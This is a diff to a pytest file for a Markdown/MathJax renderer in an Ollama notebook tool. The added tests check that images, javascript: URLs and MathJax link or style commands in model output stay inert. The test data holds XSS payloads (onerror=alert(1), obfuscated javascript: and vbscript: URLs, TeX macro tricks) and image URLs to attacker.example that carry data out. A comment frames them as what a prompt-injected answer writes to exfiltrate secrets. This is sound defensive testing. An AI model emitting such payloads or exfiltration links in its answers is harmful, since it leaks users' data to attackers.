@@ -69,8 +69,117 @@ def test_code_is_never_maths_and_keeps_its_angle_brackets() -> None:
 
 def test_raw_html_stays_inert() -> None:
     html = markdown_html('Hi <img src=x onerror="alert(1)"> $x$ <script>1</script>')
-    assert "<img" not in html and "<script" not in html
-    assert "&lt;img src=x" in html
+    assert "<img" not in html and "<script" not in html and "onerror" not in html
+    assert '<a class="ollama-nb-image" href="x"' in html and "&lt;script&gt;" in html
+
+
+# What a prompt-injected answer writes to exfiltrate: none of it may load anything.
+REMOTE_IMAGES = [
+    ("![the chart](https://attacker.example/c.png?q=secret)", "the chart"),
+    ('![a *b*](http://attacker.example/x.png "T")', "a b"),
+    ("![][r]\n\n[r]: https://attacker.example/ref.png", "image"),
+    ('Hi <img src="https://attacker.example/?q=1" alt="a &amp; b"> there', "a &amp; b"),
+    ("<IMG SRC=http://attacker.example/y onerror=alert(1)>", "image"),
+    ("| a |\n|---|\n| ![cell](http://attacker.example/t.png) |", "cell"),
+    ("- ![item](//attacker.example/i.png)", "item"),
+]
+
+
+def links(html: str) -> list[tuple[str, str]]:
+    return re.findall(r'<a class="ollama-nb-image" href="([^"]*)"[^>]*>(.*?)</a>', html)
+
+
+@pytest.mark.parametrize(("text", "alt"), REMOTE_IMAGES)
+def test_an_image_in_an_answer_is_a_link_never_fetched(text: str, alt: str) -> None:
+    html = markdown_html(text)
+    assert "<img" not in html.lower() and " src=" not in html.lower(), html
+    [(href, shown)] = links(html)
+    assert "attacker.example" in href and shown == alt
+
+
+def test_an_image_inside_a_link_shows_its_alt_text_in_that_link() -> None:
+    html = markdown_html("[![logo](http://attacker.example/l.png)](https://example.org)")
+    assert "<img" not in html and html.count("<a ") == 1
+    assert '<a href="https://example.org">logo</a>' in html
+
+
+def test_ordinary_links_stay_links_and_code_stays_code() -> None:
+    html = markdown_html("[docs](https://example.org) and `<img src=http://x>`")
+    assert '<a href="https://example.org">docs</a>' in html
+    assert "<code>&lt;img src=http://x&gt;</code>" in html
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "<javascript:alert(1)>",
+        "[x][r]\n\n[r]: javascript:alert(1)",
+        "![x](javascript:alert(1))",
+        '<img src="javascript:alert(1)" alt="x">',
+        "[x](vbscript:msgbox(1))",
+    ],
+)
+def test_javascript_urls_are_inert(text: str) -> None:
+    html = markdown_html(text)
+    assert "href=" not in html and "<img" not in html, html
+
+
+DELIMITERS = [("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\n\n\\[", "\\]")]
+
+
+@pytest.mark.parametrize(
+    "tex",
+    [
+        "\\href{javascript:alert(1)}{click}",
+        "\\href{ JavaScript :alert(1)}{click}",
+        "\\href{java\tscript:alert(1)}{click}",
+        "\\href {data:text/html,x}{click}",
+        "\\style{background:url(https://attacker.example/s)}{x}",
+        "\\bbox[background-image:url(https://attacker.example/b)]{x}",
+        '\\mmlToken{mi}[href="javascript:alert(1)"]{x}',
+        "\\def\\h#1#2{\\href{#1#2}{x}}\\h{java}{script:alert(1)}",
+        "\\newcommand{\\h}{\\href}\\h{javascript:alert(1)}{x}",
+        "\\require{action}",
+        "\\class{c}{x} \\cssId{i}{y}",
+    ],
+)
+@pytest.mark.parametrize("delimiters", DELIMITERS)
+def test_maths_that_could_link_style_or_load_is_shown_as_source(
+    tex: str, delimiters: tuple[str, str]
+) -> None:
+    opening, closing = delimiters
+    html = markdown_html(f"See {opening}{tex}{closing} here")
+    assert maths(html) == [], html  # nothing MathJax would typeset
+    assert html.startswith('<div class="mathjax_ignore tex2jax_ignore">')
+    assert "<code>" in html and 'href="' not in html
+
+
+def test_safe_maths_with_a_web_link_is_still_typeset() -> None:
+    html = markdown_html("$\\href{https://example.org}{x} + \\bbox[red,5pt]{y}$")
+    assert maths(html) == ["\\(\\href{https://example.org}{x} + \\bbox[red,5pt]{y}\\)"]
+
+
+def test_live_view_shows_images_as_links_too() -> None:
+    text = "Intro\n\n![leak](https://attacker.example/?q=1)\n\nmore $\\href{javascript:x}{y}$"
+    finished, opened = feed(text, 4)
+    pieces = "".join(finished) + "".join(opened)
+    assert "<img" not in pieces and 'href="javascript' not in pieces
+    assert not any("javascript" in tex for tex in maths(pieces))
+    assert ("https://attacker.example/?q=1", "leak") in links("".join(finished))
+
+
+def test_record_html_shows_images_as_links() -> None:
+    result = OllamaResult(
+        model="m",
+        text="![x](https://attacker.example/a.png)",
+        thinking='<img src="https://attacker.example/t.png">',
+        done_reason="stop",
+    )
+    html = record_html(result)
+    assert "attacker.example" in html and "<img" not in html
+    assert len(links(html)) == 2
 
 
 def test_deep_nesting_keeps_every_word() -> None:
